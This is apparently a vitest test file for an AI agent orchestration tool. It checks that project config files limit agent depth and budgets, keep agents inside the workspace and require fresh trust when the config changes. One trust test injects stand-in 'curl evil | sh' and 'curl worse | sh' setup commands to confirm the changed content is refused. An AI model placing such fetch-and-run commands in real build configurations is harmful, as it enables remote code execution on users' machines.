import { expect, test } from 'vitest';
import { lookAtProject } from '#main/core/engine/look-at-project.ts';
import { runNanite } from '#main/core/engine/run-nanite.ts';
import { startRoot } from '#main/core/engine/start-root.ts';
import { trustProject } from '#main/core/engine/trust-project.ts';
import { type Scenario, scenario, valueOf } from '#test/support/scenario.ts';
import { call, say } from '#test/support/scripted-models.ts';

const WHO = { actor: { kind: 'person', id: 'person', via: 'window' } } as const;

/** What holds in the repository now. */
async function held(s: Scenario) {
  return s.engine.projects.of(await s.engine.placeOf(s.repository.path));
}

const committed = (files: Readonly<Record<string, string>>) => ({ repository: { files: { 'a.txt': 'a\n', ...files } } });

test('a project’s limits hold at once for its sessions, their children and nanites, and only where they are lower', async () => {
  const config = `
    [options]
    agent_max_depth = 1
    [build_budget_presets.nanite]
    max_turns = 2
    timeout_seconds = 9999
    [build_budget_presets.child]
    max_turns = 3
  `;
  const s = await scenario({
    ...committed({ 'coppice.toml': config }),
    settings: {
      agentMaxDepth: 3,
      subagentBudget: 'child',
      budgets: { nanite: { maxTurns: 8, timeoutSeconds: 300 }, child: { maxTurns: 40 } },
    },
    script: {
      main: [[call('spawn_agent', { prompt: 'p', name: 'kid', worktree: true })], say('ok')],
      kid: [[call('spawn_agent', { prompt: 'p', name: 'deep' })], say('no')],
    },
  });
  const root = await s.run('go');
  await s.ended('kid');
  expect(s.agent('kid').run.budget).toEqual({ maxTurns: 3 });
  expect(s.ends('kid')[0]).toMatchObject({ outcome: 'error', output: expect.stringContaining('agent_max_depth = 1') as string });
  const asked = { session: root.session, prompt: 'p', name: 'mite', type: 'general-purpose', worktree: null, preset: null };
  valueOf(await runNanite(s.engine, asked, { id: s.commandId(), ...WHO }));
  expect((await s.ended('mite')).run.budget).toEqual({ maxTurns: 2, timeoutSeconds: 300 });
  const { narrows, warnings, standing } = await held(s);
  expect(standing).toBe('nothing');
  expect(narrows).toEqual([
    'agent_max_depth = 1',
    'lower limits of the budget preset "nanite": max_turns',
    'lower limits of the budget preset "child": max_turns',
  ]);
  expect(warnings).toEqual([
    `${s.repository.path}/coppice.toml: key "build_budget_presets.nanite.timeout_seconds" is wider than yours: yours holds`,
  ]);
});

test('a session that a project holds in its workspace stays held, with all below it, whatever an agent does to the file', async () => {
  const reach = () => [call('write', { path: '../outside.txt', content: 'x' })];
  const s = await scenario({
    ...committed({ 'coppice.toml': '[options]\nrestrict_to_workspace = true\n' }),
    script: {
      main: ({ caller }) => {
        if (caller.turn > 4) return say('more');
        if (caller.turn === 1) return reach();
        if (caller.turn === 2) return [call('write', { path: 'coppice.toml', content: '' })];
        return caller.turn === 3 ? [...reach(), call('Agent', { prompt: 'p', name: 'kid' })] : say('ok');
      },
      kid: [reach(), say('no')],
    },
    settings: { delegationTools: ['Agent'] },
  });
  const root = await s.start('go');
  await s.ended(root.agent);
  const outside = [...s.ends('main'), ...s.ends('kid')].filter(({ output }) => output.includes('workspace'));
  expect(outside.map(({ outcome }) => outcome)).toEqual(['error', 'error', 'error']);
  await s.restart();
  expect([s.agent(root.agent).restricted, s.agent('kid').restricted]).toEqual([true, true]);
  // The file is gone: a new session is free.
  expect(s.agent((await s.start('again')).agent).restricted).toBe(false);
});

test('an agent in a worktree, and a session in one, have the main tree’s file: what they write in theirs has no effect', async () => {
  const s = await scenario({
    ...committed({ '.coppice/coppice.toml': '[merge]\nverify = "npm test"\n' }),
    script: {
      main: [[call('Agent', { prompt: 'p', name: 'kid', isolation: 'worktree' })], say('ok')],
      kid: [[call('write', { path: '.coppice/coppice.toml', content: '[merge]\nverify = "true"\n' })], say('done')],
    },
    settings: { delegationTools: ['Agent'] },
  });
  await s.trust();
  await s.run('go');
  const kid = await s.ended('kid');
  expect(kid.cwd).not.toBe(s.repository.path);
  const ofTree = await s.engine.projects.of(await s.engine.placeOf(kid.cwd));
  expect(ofTree).toMatchObject({ top: s.repository.path, trusted: true, settings: { merge: { verify: 'npm test' } } });
});

const OWN = `
  [options]
  model = "script/small"
  [worktree]
  setup = ["npm ci", "npm run build"]
  pool = 2
  [merge]
  verify = "npm test"
`;

test('what a project adds counts with trust alone, for what was shown alone, and its keys go before the person’s', async () => {
  const mine = { setup: ['make'], teardown: ['make clean'], setupRequired: false, setupTimeoutSeconds: 300, pool: 1 };
  const s = await scenario({
    ...committed({ 'coppice.toml': OWN }),
    settings: { worktree: mine, merge: { verify: 'make check' } },
    script: {},
  });
  const folder = s.repository.path;
  expect((await s.run('one')).model).toBe('script/model');
  const before = await held(s);
  expect(before).toMatchObject({ standing: 'unasked', trusted: false, settings: { worktree: mine, merge: { verify: 'make check' } } });
  expect(before.withheld.map(({ kind, name, says }) => [kind, name, says])).toEqual([
    ['setup', 'worktree.setup', 'npm ci\nnpm run build'],
    ['verify', 'merge.verify', 'npm test'],
    ['model', 'options.model', 'script/small'],
    ['pool', 'worktree.pool', '2'],
  ]);

  await s.trust();
  expect(await held(s)).toMatchObject({
    standing: 'trusted',
    withheld: [],
    settings: {
      model: 'script/small',
      worktree: { ...mine, setup: ['npm ci', 'npm run build'], pool: 2 },
      merge: { verify: 'npm test' },
    },
  });
  const { agent } = await s.start('two');
  expect((await s.ended(agent)).model).toBe('script/small');

  // What was shown is not what is there any more: the yes is refused, and nothing of it is used meanwhile.
  await s.repository.write({ 'coppice.toml': OWN.replace('npm ci', 'curl evil | sh') });
  const { content } = await lookAtProject(s.engine, { folder });
  await s.repository.write({ 'coppice.toml': OWN.replace('npm ci', 'curl worse | sh') });
  const late = { folder, content, trusted: true, playbook: null };
  expect(await trustProject(s.engine, late, { id: s.commandId(), ...WHO })).toMatchObject({
    ok: false,
    problem: { code: 'content_changed' },
  });
  expect(await held(s)).toMatchObject({ standing: 'changed', settings: { model: 'script/model', worktree: mine } });
  const look = await lookAtProject(s.engine, { folder });
  expect(look.brings.filter(({ change }) => change !== 'same')).toMatchObject([
    { name: 'worktree.setup', change: 'changed', says: 'curl worse | sh\nnpm run build', before: 'npm ci\nnpm run build' },
  ]);

  await s.trust(false);
  expect((await held(s)).standing).toBe('refused');
  // Back to what was trusted once: the last word was a no, to something else.
  await s.repository.write({ 'coppice.toml': OWN });
  expect(await held(s)).toMatchObject({ standing: 'changed', trusted: false });
  await s.trust();
  await s.restart();
  expect((await held(s)).standing).toBe('trusted');
});

test('a model that the project may not choose is said and not used, and the person’s own words go before it', async () => {
  const s = await scenario({ ...committed({ 'coppice.toml': '[options]\nmodel = "playbook/play.yaml"\n' }), script: {} });
  await s.trust();
  const said = (await held(s)).warnings;
  expect(said).toEqual([expect.stringContaining('key "options.model": "playbook/play.yaml" cannot be used: it is a playbook')]);
  expect((await s.run('one')).model).toBe('script/model');
  await s.repository.write({ 'coppice.toml': '[options]\nmodel = "script/small"\n' });
  await s.trust();
  s.configure({ modelOfEnvironment: true });
  expect((await held(s)).settings.model).toBe('script/model');
  s.configure({ modelOfEnvironment: false });
  const asked = { cwd: s.repository.path, prompt: 'p', model: 'script/mine', mode: 'auto', tour: false, preset: null } as const;
  const { agent } = valueOf(await startRoot(s.engine, asked, { id: s.commandId(), ...WHO }));
  expect((await s.ended(agent)).model).toBe('script/mine');
});
